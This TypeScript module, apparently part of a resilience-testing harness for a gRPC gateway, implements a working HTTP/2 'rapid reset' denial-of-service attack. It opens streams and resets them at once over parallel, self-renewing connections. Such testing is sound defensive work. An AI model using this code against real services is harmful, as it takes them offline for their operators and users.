import type { Attacker } from '../attacker.ts';
import { callFields, flag, frame, frameType, Http2Wire, headerBlock, uint32 } from '../http2-wire.ts';

const path = '/marina.gateway.v1.Orders/GetOrder';

/** An attacker that is thrown out too often gives up. */
const mostConnections = 200;

/** A port of gRPC that is attacked. */
export interface Options {
  readonly port: 'grpcPort' | 'adminPort';
}

/** Opens streams and resets each at once. */
export async function rapidReset(attacker: Attacker, { port }: Options) {
  const cancel = uint32(8);
  const block = headerBlock(callFields(path));
  return onConnections(attacker, port, 4, (wire) =>
    wire.write(
      ...many(50, () => {
        const stream = wire.nextStream();
        return Buffer.concat([
          frame(frameType.headers, flag.endHeaders, stream, block),
          frame(frameType.rstStream, 0, stream, cancel),
        ]);
      }),
    ),
  );
}

/** Keeps some connections busy with hostile frames, and opens a new one for each that is of no more use. */
async function onConnections(
  attacker: Attacker,
  port: Options['port'],
  count: number,
  act: (wire: Http2Wire) => Promise<void>,
): Promise<{ opened: number }> {
  let opened = 0;
  const one = async () => {
    while (attacker.isOn && opened < mostConnections) {
      const wire = new Http2Wire(await attacker.connect(attacker.target[port]));
      opened += 1;
      while (attacker.isOn && wire.isOpen && !wire.isStuck) {
        await act(wire);
        await pause();
      }
      await pause(20);
    }
  };
  await Promise.all(Array.from({ length: count }, one));
  return { opened };
}

function many<T>(count: number, make: () => T): T[] {
  return Array.from({ length: count }, make);
}

function pause(ms = 0): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, ms));
}
